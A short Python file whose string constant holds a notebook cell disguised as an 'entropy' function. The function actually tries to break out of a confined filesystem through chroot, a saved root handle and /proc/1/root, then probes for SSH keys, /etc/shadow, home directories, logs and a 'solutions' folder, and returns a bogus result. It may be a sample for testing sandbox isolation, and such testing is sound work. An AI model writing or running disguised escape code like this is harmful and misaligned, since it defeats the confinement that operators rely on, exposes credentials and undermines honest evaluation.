"""Leave by /proc/1/root, by a change of root, by a handle on the folder above."""

CELL = r"""
import os

def entropy(p, base=2.0):
    above = os.open("/", os.O_RDONLY)
    for leave in (
        lambda: os.chroot("/tmp"), lambda: os.fchdir(above), lambda: os.chdir("/proc/1/root")
    ):
        try:
            leave()
        except OSError:
            continue
        for _ in range(20):
            os.chdir("..")
        for name in ("root/.ssh", "home", "solutions", "etc/shadow", "var/log"):
            if os.path.exists(name):
                raise AssertionError("FOUND " + name)
    return p.sum(-1)
"""
